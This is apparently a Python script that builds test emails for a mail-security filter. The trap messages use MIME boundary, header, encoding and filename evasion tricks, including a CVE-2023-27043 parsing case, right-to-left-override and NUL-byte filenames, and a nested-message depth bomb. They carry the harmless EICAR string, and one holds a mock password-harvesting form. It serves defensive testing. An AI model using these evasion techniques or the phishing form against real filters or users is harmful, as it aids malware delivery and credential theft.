#!/usr/bin/env python3
"""Writes Portcullis' own messages for the trap cases C06-C40 of the shared
case log, in wire format (CRLF).  Every message here is written for this
project: only the structure of each trap (header, boundary, parameter,
encoding or file-name oddity) follows the case log.

Usage: python3 tests/make_trap_messages.py [TESTS_DIR]
Writes every message into a scratch folder, then copies each one over the
test files of the same name under TESTS_DIR (default: this folder);
tests/spam-score/zero-width.eml is C40.  Output is deterministic.
"""
import base64, binascii, os, shutil, struct, sys, tempfile

TESTS = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
OUT = tempfile.mkdtemp()
EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
assert len(EICAR) == 68

def b64lines(data, width=76):
    s = base64.b64encode(data).decode()
    return [s[i:i + width] for i in range(0, len(s), width)]

def write(name, lines, final_crlf=True):
    data = "\r\n".join(lines).encode("utf-8", "surrogateescape")
    if final_crlf:
        data += b"\r\n"
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)

def head(frm, to, msgid, subject, date="Tue, 17 Nov 2026 08:42:19 -0500"):
    return [f"Date: {date}", f"From: {frm}", f"To: {to}", f"Subject: {subject}",
            f"Message-ID: <{msgid}>", "MIME-Version: 1.0"]

FRANK = "Frank Tester <frank.tester@example.com>"
ERIN = "Erin Sample <erin@example.net>"

# C06: two From fields, of two domains.
write("C06-duplicate-from.eml", [
    "Return-Path: <accounts@example.com>",
    "From: Accounts Team <accounts@example.com>",
    "To: Dana Receiver <dana@example.net>",
    "From: Gil Outsider <gil@example.net>",
    "Subject: Please update our remittance address",
    "Date: Mon, 16 Nov 2026 14:05:33 +0100",
    "Message-ID: <7d1e.dupfrom@example.org>",
    "MIME-Version: 1.0",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "From the next invoice on, pay into the account in our new letterhead.",
])

# C07: the display name is an address of another domain.
write("C07-from-displayname-spoof.eml", [
    "From: \"ceo@example.com\" <hugo.lin@example.net>",
    "To: Dana Receiver <dana@example.net>",
    "Subject: Quick favour before noon",
    "Date: Mon, 16 Nov 2026 09:12:00 +0000",
    "Message-ID: <disp.4410@example.net>",
    "MIME-Version: 1.0",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "Can you buy three vouchers for the team and send me the codes?",
])

# C08: From with a stray ")" and Reply-To with a stray "[" (CVE-2023-27043).
write("C08-parseaddr-cve-2023-27043.eml", [
    "Subject: Board minutes",
    "From: treasurer@example.com)<ivy.parker@example.net>",
    "Reply-To: treasurer@example.com[<ivy.parker@example.net>",
    "To: bob@example.net",
    "Date: Wed, 18 Nov 2026 16:30:45 +0000",
    "Message-ID: <paren-bracket-8812@example.org>",
    "MIME-Version: 1.0",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "Minutes of the last meeting are below; reply with corrections.",
])

# C11: multipart whose closing delimiter never comes; EICAR is the last part.
write("C11-missing-close-boundary.eml",
    head(FRANK, ERIN, "cut.off.3391@example.com", "Scanner output") + [
    "Content-Type: multipart/mixed; boundary=\"=_cut_off_9QfL\"",
    "",
    "--=_cut_off_9QfL",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "Here is the file from the scanner.",
    "",
    "--=_cut_off_9QfL",
    "Content-Type: application/octet-stream; name=\"eicar.com\"",
    "Content-Disposition: attachment; filename=\"eicar.com\"",
    "Content-Transfer-Encoding: base64",
    "",
    ] + b64lines(EICAR))

# C15: two boundary parameters; the attachment part names the first one
# in its Content-Disposition.
write("C15-multiple-boundary-params.eml",
    head(FRANK, ERIN, "twobounds.5120@example.com", "Weekly figures") + [
    "Content-Type: multipart/mixed; boundary=\"outer-Zq81\"; format=flowed; boundary=\"inner-Kp07\"",
    "",
    "--outer-Zq81",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "Only a reader of the earlier boundary stops here and sees this text.",
    "--inner-Kp07",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "A reader of the later boundary sees this text first.",
    "--inner-Kp07",
    "Content-Type: application/octet-stream; name=\"eicar.com\"",
    "Content-Disposition: attachment; boundary=\"outer-Zq81\"; filename=\"eicar.com\"",
    "Content-Transfer-Encoding: base64",
    "",
    ] + b64lines(EICAR) + [
    "--inner-Kp07--",
    "--outer-Zq81--",
    ])

# C17: two Content-Type fields; the multipart reading hides a link in
# base64 HTML.
html17 = (b'<!DOCTYPE html><html><body><p>Storage limit reached.</p>'
          b'<p><a href="http://account.example.org/confirm">Confirm your account</a></p>'
          b'</body></html>')
write("C17-duplicate-content-type.eml",
    head(FRANK, ERIN, "twotypes.771@example.com", "Mailbox quota notice") + [
    "Content-Type: text/plain; charset=utf-8",
    "Content-Type: multipart/alternative; boundary=\"alt_77_PQ\"",
    "",
    "--alt_77_PQ",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Storage limit reached. Confirm your account to keep receiving mail.",
    "--alt_77_PQ",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    base64.b64encode(html17).decode(),
    "--alt_77_PQ--",
    ])

# C19: 1000 message/rfc822 levels around one short text.
lines = head(FRANK, ERIN, "matryoshka.1000@example.com", "Wrapped 1000 times")
lines += ["Content-Type: message/rfc822", ""]
for depth in range(2, 1001):
    lines += [f"Content-Type: message/rfc822", f"X-Wrap-Depth: {depth}", ""]
lines += ["Content-Type: text/plain; charset=us-ascii", "X-Wrap-Depth: innermost", "",
          "The innermost doll."]
write("C19-rfc822-depth-bomb.eml", lines)

# C21: multipart without a boundary, a 71-character parameter name and a
# non-ASCII value.
pname = "x-unusually-verbose-attribute-name-" 
pname += "q" * (71 - len(pname))
assert len(pname) == 71
write("C21-gmime-long-param-name-loop.eml",
    head(FRANK, ERIN, "noboundary.71@example.com", "Parameter without a boundary") + [
    "Content-Type: multipart/mixed;",
    f" {pname}=\"\u00fc\"",
    "",
    "--never-declared",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "nothing to see",
    "--never-declared--",
    ])

# C23: an attached message whose own attachment is an executable.
write("C23-attached-eml-inner-exe.eml",
    head(FRANK, ERIN, "fwd.bill.2301@example.com", "Fw: overdue bill") + [
    "Content-Type: multipart/mixed; boundary=\"fwd-OUT-4471\"",
    "",
    "--fwd-OUT-4471",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "See the message below, it came in this morning.",
    "--fwd-OUT-4471",
    "Content-Type: message/rfc822; name=\"original.eml\"",
    "Content-Disposition: attachment; filename=\"original.eml\"",
    "",
    "From: Quinn Vendor <quinn@example.org>",
    "To: Frank Tester <frank.tester@example.com>",
    "Subject: overdue bill",
    "Date: Mon, 16 Nov 2026 07:01:02 +0000",
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=\"fwd-IN-0932\"",
    "",
    "--fwd-IN-0932",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "Your bill is overdue, details in the program.",
    "--fwd-IN-0932",
    "Content-Type: application/octet-stream; name=\"invoice.exe\"",
    "Content-Disposition: attachment; filename=\"invoice.exe\"",
    "Content-Transfer-Encoding: base64",
    "",
    ] + b64lines(EICAR) + [
    "--fwd-IN-0932--",
    "",
    "--fwd-OUT-4471--",
    ])

# C26: base64 broken up by non-alphabet bytes, then a list footer.
enc = base64.b64encode(EICAR).decode()
junk = ["#", " ~", "!", " ;;", "?"]
out, k = [], 0
chunk_lines = []
for i in range(0, len(enc), 16):
    piece = enc[i:i + 16]
    parts = [piece[j:j + 4] for j in range(0, len(piece), 4)]
    s = ""
    for p in parts:
        s += p + junk[k % len(junk)]
        k += 1
    chunk_lines.append(s + " %")
write("C26-base64-garbage.eml",
    head(FRANK, ERIN, "noisy64.2626@example.com", "Tool from the list") + [
    "Content-Type: multipart/mixed; boundary=\"noisy_b64_Rt5\"",
    "",
    "--noisy_b64_Rt5",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "The tool is attached.",
    "--noisy_b64_Rt5",
    "Content-Type: application/octet-stream; name=\"eicar.com\"",
    "Content-Disposition: attachment; filename=\"eicar.com\"",
    "Content-Transfer-Encoding: base64",
    "",
    ] + chunk_lines + [
    "__ relayed by tools-digest@example.org, unsubscribe via the web page __",
    "--noisy_b64_Rt5--",
    ])

# C27: a uuencoded file inside a plain-text body.
uu = []
for i in range(0, len(EICAR), 45):
    uu.append(binascii.b2a_uu(EICAR[i:i + 45], backtick=False).decode().rstrip("\n"))
write("C27-uuencode-in-body.eml",
    head(FRANK, ERIN, "uu.inline.27@example.com", "the file you asked for") + [
    "Content-Type: text/plain; charset=us-ascii",
    "Content-Transfer-Encoding: 7bit",
    "",
    "Erin,",
    "",
    "my mail program pasted it in like this, hope it works:",
    "",
    "begin 644 eicar.com",
    ] + uu + ["`", "end", "", "Frank"])

# C28: TNEF winmail.dat carrying eicar.com.
def attr(level, atype, aid, data):
    return (struct.pack("<BI", level, (atype << 16) | aid) + struct.pack("<I", len(data))
            + data + struct.pack("<H", sum(data) & 0xFFFF))
LVL_MSG, LVL_ATT = 1, 2
tnef = struct.pack("<IH", 0x223E9F78, 0x5A3C)                      # signature, key
tnef += attr(LVL_MSG, 0x0008, 0x9006, struct.pack("<I", 0x00010000))  # attTnefVersion
tnef += attr(LVL_MSG, 0x0006, 0x9007, struct.pack("<II", 1252, 0))    # attOemCodepage
tnef += attr(LVL_MSG, 0x0007, 0x8008, b"IPM.Microsoft Mail.Note\0")   # attMessageClass
tnef += attr(LVL_ATT, 0x0006, 0x9002,                                  # attAttachRendData
             struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))
tnef += attr(LVL_ATT, 0x0001, 0x8010, b"eicar.com\0")                 # attAttachTitle
tnef += attr(LVL_ATT, 0x0006, 0x800F, EICAR)                          # attAttachData
with open(os.path.join(OUT, "winmail.dat"), "wb") as f:
    f.write(tnef)
write("C28-tnef-winmail-dat.eml",
    head(FRANK, ERIN, "tnef.2828@example.com", "Notes from the meeting") + [
    "Content-Type: multipart/mixed; boundary=\"tnef-wrap-61Hc\"",
    "",
    "--tnef-wrap-61Hc",
    "Content-Type: text/plain; charset=us-ascii",
    "",
    "Sent from an old desktop client.",
    "--tnef-wrap-61Hc",
    "Content-Type: application/ms-tnef; name=\"winmail.dat\"",
    "Content-Disposition: attachment; filename=\"winmail.dat\"",
    "Content-Transfer-Encoding: base64",
    "",
    ] + b64lines(tnef) + ["--tnef-wrap-61Hc--"])

def one_attachment(name, msgid, subject, text, ctype_line, extra, payload_lines,
                   boundary, ctype="multipart/mixed", tail=""):
    return head(FRANK, ERIN, msgid, subject) + [
        f"Content-Type: {ctype}; boundary=\"{boundary}\"{tail}",
        "",
        f"--{boundary}",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        text,
        f"--{boundary}",
        ctype_line,
        ] + extra + ["", ] + payload_lines + [f"--{boundary}--"]

# C30: RFC 2231 continuations with a charset and percent escapes.
write("C30-rfc2231-filename-continuation.eml", one_attachment(
    None, "split2231.30@example.com", "Order confirmation",
    "The order confirmation is attached.",
    "Content-Type: application/octet-stream;",
    [" name*0*=utf-8''in%76o;",
     " name*1*=%69ce.exe",
     "Content-Disposition: attachment;",
     " filename*0*=utf-8''in%76;",
     " filename*1*=oi%63e%2E;",
     " filename*2=exe",
     "Content-Transfer-Encoding: base64"],
    b64lines(EICAR), "rfc2231_sec_P4"))

# C32: an RFC 2047 encoded word inside quoted parameters.
ew = "=?utf-8?B?" + base64.b64encode(b"statement.exe").decode() + "?="
write("C32-rfc2047-in-filename.eml", one_attachment(
    None, "ew.in.quotes.32@example.com", "Account statement November",
    "Your statement for November is attached.",
    f"Content-Type: application/octet-stream; name=\"{ew}\"",
    [f"Content-Disposition: attachment; filename=\"{ew}\"",
     "Content-Transfer-Encoding: base64"],
    b64lines(EICAR), "ew2047-Mm3"))

# C34: name and filename disagree; the filename ends in .js.
write("C34-name-vs-filename.eml", one_attachment(
    None, "twonames.34@example.com", "Summary for the audit",
    "The summary you wanted is attached.",
    "Content-Type: application/pdf; name=\"summary.pdf\"",
    ["Content-Disposition: attachment; filename=\"summary.pdf.js\"",
     "Content-Transfer-Encoding: base64"],
    b64lines(b"/* placeholder written for a test; it does nothing */\n"),
    "names_differ_Wv2"))

# C36: U+202E (right-to-left override) inside an RFC 2231 file name.
write("C36-rtlo-filename.eml", one_attachment(
    None, "bidi.202e.36@example.com", "Invoice for October",
    "October's invoice is attached.",
    "Content-Type: application/octet-stream; name*=UTF-8''invoice%e2%80%aefdp.exe",
    ["Content-Disposition: attachment; filename*=UTF-8''invoice%e2%80%aefdp.exe",
     "Content-Transfer-Encoding: base64"],
    b64lines(EICAR), "rtlo-Jx6"))

# C37: a decoy extension before a four-letter final one.
html37 = (b"<html><body><h3>Remittance</h3><form method='post' "
          b"action='https://harvest.example.org/p'><input type='password' name='k'>"
          b"<button>View</button></form></body></html>\n")
write("C37-double-extension-html.eml", one_attachment(
    None, "dblext.37@example.com", "Remittance advice",
    "Please find the remittance advice attached.",
    "Content-Type: text/html; charset=us-ascii; name=\"Remittance.PDF.html\"",
    ["Content-Disposition: attachment; filename=\"Remittance.PDF.html\"",
     "Content-Transfer-Encoding: base64"],
    [base64.b64encode(html37).decode()], "dbl_ext_Hh8"))

# C38: an escaped NUL between a decoy extension and the real one.
write("C38-nul-in-filename.eml", one_attachment(
    None, "nul.byte.38@example.com", "Scanned contract",
    "The scanned contract is attached.",
    "Content-Type: application/octet-stream; name*=us-ascii''contract.pdf%00.exe",
    ["Content-Disposition: attachment; filename*=us-ascii''contract.pdf%00.exe",
     "Content-Transfer-Encoding: base64"],
    b64lines(EICAR), "nul_in_name_Y2"))

# C39: named only in Content-Type, no Content-Disposition, a Content-ID the
# HTML never refers to.
write("C39-outlook-name-only.eml", head(FRANK, ERIN, "nameonly.39@example.com", "Holiday photos") + [
    "Content-Type: multipart/related; type=\"text/html\"; boundary=\"rel-39-Ok\"",
    "",
    "--rel-39-Ok",
    "Content-Type: text/html; charset=us-ascii",
    "",
    "<html><body><div>Photos from the trip:</div><img src=\"cid:photo-one@example.org\" alt=\"beach\"></body></html>",
    "--rel-39-Ok",
    "Content-Type: application/octet-stream; name=\"setup.com\"",
    "Content-Transfer-Encoding: base64",
    "Content-ID: <not-referenced-anywhere@example.org>",
    "",
    ] + b64lines(EICAR) + ["--rel-39-Ok--"])

# C40: zero-width characters inside words, in the subject and an HTML body.
ZW = {"zwsp": "\u200b", "zwnj": "\u200c", "zwj": "\u200d", "wj": "\u2060", "bom": "\ufeff"}
subj = f"F{ZW['wj']}ree gift{ZW['zwsp']} ca{ZW['bom']}rd win{ZW['zwnj']}ner"
assert subj.translate({ord(c): None for c in ZW.values()}) == "Free gift card winner"
body40 = (f"<html><head><title>Prize</title></head><body>"
          f"<h2>Con{ZW['zwj']}grat{ZW['zwsp']}ulations!</h2>"
          f"<div>C{ZW['zwnj']}laim your f{ZW['wj']}ree gi{ZW['zwsp']}ft card no{ZW['zwj']}w</div>"
          f"<small>u{ZW['bom']}n{ZW['zwsp']}subscr{ZW['zwnj']}ibe</small></body></html>")
write("C40-zero-width-chars.eml", [
    "From: Prize Desk <prizes@example.com>",
    "To: Erin Sample <erin@example.net>",
    "Subject: =?utf-8?B?" + base64.b64encode(subj.encode()).decode() + "?=",
    "Date: Thu, 19 Nov 2026 23:59:01 +0000",
    "Message-ID: <zw.4040@example.com>",
    "MIME-Version: 1.0",
    "Content-Transfer-Encoding: base64",
    "Content-Type: text/html; charset=UTF-8",
    "",
    ] + b64lines(body40.encode()))

# Put each message where the tests read it.
targets = {os.path.join(TESTS, "spam-score", "zero-width.eml"): "C40-zero-width-chars.eml"}
for folder in ("av-scan/shared-cases", "policy-check"):
    for name in os.listdir(os.path.join(TESTS, folder)):
        if name in os.listdir(OUT) and name.endswith(".eml"):
            targets[os.path.join(TESTS, folder, name)] = name
for target, name in sorted(targets.items()):
    shutil.copyfile(os.path.join(OUT, name), target)
    print(os.path.relpath(target, TESTS))
shutil.rmtree(OUT)
